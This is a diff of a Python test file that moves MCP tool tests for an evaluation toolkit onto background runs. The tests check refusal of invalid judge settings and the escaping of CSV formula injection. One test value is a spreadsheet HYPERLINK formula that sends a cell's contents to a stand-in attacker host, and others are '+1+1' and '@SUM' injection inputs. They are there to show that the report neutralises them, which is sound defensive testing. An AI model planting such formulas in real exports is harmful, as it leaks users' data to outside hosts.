@@ -8,13 +8,13 @@ import csv
 import json
 from pathlib import Path
 
-import anyio
 import pytest
 
 from tests.conftest import run_ultra
 from tests.hostile.conftest import clear_error
-from tests.hostile.test_caps import call_over_mcp, caps, refused_over_mcp, write_samples
-from tests.hostile.test_keys_hosts import text_of
+from tests.hostile.test_caps import caps, refused_in_background, refused_over_mcp, spare_mcp, write_samples
+from tests.support.background import Finished
+from tests.support.mcp_probe import outcome
 from tests.support.openai_stub import OpenAIStub
 
 UNREACHABLE = {"api_key": "", "base_url": "http://127.0.0.1:9/v1"}
@@ -32,19 +32,33 @@ def test_m7_a_rubric_label_worth_nan_over_mcp(tmp_path: Path) -> None:
         assert stub.request_count == 0
 
 
-def test_m9_jury_min_one_and_a_half_over_mcp(tmp_path: Path) -> None:
-    members = [{"model_id": f"m{i}", **UNREACHABLE} for i in range(2)]
-    refused_over_mcp(tmp_path, "judge", "idk_judge",
-                     {"q_ls": ["q"], "pred_ls": ["a"], "judge_cache": "", "save_path": str(tmp_path / "j"),
-                      "judge_llm": {**UNREACHABLE, "jury": members, "jury_min": 1.5}},
-                     "judge_llm.jury_min must be a whole number, got 1.5")  # fmt: skip
+@spare_mcp(
+    "judge",
+    "idk_judge",
+    lambda tmp_path: {
+        "q_ls": ["q"],
+        "pred_ls": ["a"],
+        "judge_cache": "",
+        "save_path": str(tmp_path / "j"),
+        "judge_llm": {**UNREACHABLE, "jury": [{"model_id": f"m{i}", **UNREACHABLE} for i in range(2)], "jury_min": 1.5},
+    },
+)
+def test_m9_jury_min_one_and_a_half_over_mcp(background_run: Finished) -> None:
+    refused_in_background(background_run, "judge_llm.jury_min must be a whole number, got 1.5")
 
 
-def test_m19_fill_budget_true_over_mcp(tmp_path: Path) -> None:
-    refused_over_mcp(tmp_path, "judge", "fill_qrels",
-                     {"fill_budget": True, "judge_cache": "", "save_path": str(tmp_path / "f"),
-                      "judge_llm": UNREACHABLE},
-                     "`fill_budget` must be an integer or null, got true")  # fmt: skip
+@spare_mcp(
+    "judge",
+    "fill_qrels",
+    lambda tmp_path: {
+        "fill_budget": True,
+        "judge_cache": "",
+        "save_path": str(tmp_path / "f"),
+        "judge_llm": UNREACHABLE,
+    },
+)
+def test_m19_fill_budget_true_over_mcp(background_run: Finished) -> None:
+    refused_in_background(background_run, "`fill_budget` must be an integer or null, got true")
 
 
 @pytest.mark.parametrize("n", [10_000_000, 10**12])
@@ -57,27 +71,38 @@ def test_major_4_compare_judged_n_resamples_through_ultra_call(tmp_path: Path, n
     assert "Unable to allocate" not in done.stderr
 
 
-def test_empty_golds_identical_answers_score_one_over_mcp(tmp_path: Path) -> None:
+TEXTS = ["A", "La", "。", "?"]
+
+
+@spare_mcp("evaluation", "evaluate", lambda tmp_path: {
+    "pred_ls": TEXTS, "gt_ls": [[t] for t in TEXTS], "metrics": ["em", "acc", "f1"], "normalize": "squad",
+    "language": "en", "save_path": str(tmp_path / "eval.json")})  # fmt: skip
+def test_empty_golds_identical_answers_score_one_over_mcp(background_run: Finished) -> None:
     """``A``/``A``, ``La``/``La``, ``。``/``。``, ``?``/``?``: EM = acc = F1 = 1 under SQuAD v2's rules."""
-    texts = ["A", "La", "。", "?"]
-    result = anyio.run(call_over_mcp, tmp_path, "evaluation", "evaluate",
-                       {"pred_ls": texts, "gt_ls": [[t] for t in texts], "metrics": ["em", "acc", "f1"],
-                        "normalize": "squad", "language": "en", "save_path": str(tmp_path / "eval.json")})  # fmt: skip
-    assert not result.is_error, text_of(result)
-    scores = json.loads(text_of(result))["eval_res"]
+    is_error, text = outcome(background_run)
+    assert not is_error, text
+    scores = json.loads(text)["eval_res"]
     assert scores["em"] == scores["acc"] == scores["f1"] == [1.0] * 4
 
 
-def test_m6_per_query_csv_over_mcp(tmp_path: Path) -> None:
-    """The report tool called over MCP writes ``=HYPERLINK(...)`` questions and answers neutralised."""
-    question = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+QUESTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def report_arguments(tmp_path: Path) -> dict:
+    """An evaluation result of two questions written in ``tmp_path``, and the report tool's arguments on it."""
     result = tmp_path / "eval.json"
     result.write_text(json.dumps({"id_ls": [0, 1], "em": [1.0, 0.0], "avg_em": 0.5}))
-    answer = anyio.run(call_over_mcp, tmp_path, "report", "report",
-                       {"result_path": str(result), "q_ls": [question, "+1+1"], "pred_ls": ["@SUM(A1:A9)", "ok"],
-                        "out_dir": str(tmp_path / "report")})  # fmt: skip
-    assert not answer.is_error, text_of(answer)
-    path = Path(json.loads(text_of(answer))["per_query_csv_path"])
+    return {"result_path": str(result), "q_ls": [QUESTION, "+1+1"], "pred_ls": ["@SUM(A1:A9)", "ok"],
+            "out_dir": str(tmp_path / "report")}  # fmt: skip
+
+
+@spare_mcp("report", "report", report_arguments)
+def test_m6_per_query_csv_over_mcp(background_run: Finished) -> None:
+    """The report tool called over MCP writes ``=HYPERLINK(...)`` questions and answers neutralised."""
+    question = QUESTION
+    is_error, text = outcome(background_run)
+    assert not is_error, text
+    path = Path(json.loads(text)["per_query_csv_path"])
     with path.open(newline="") as handle:
         rows = list(csv.DictReader(handle))
     assert [(row["question"], row["answer"]) for row in rows] == [("'" + question, "'@SUM(A1:A9)"), ("'+1+1", "ok")]
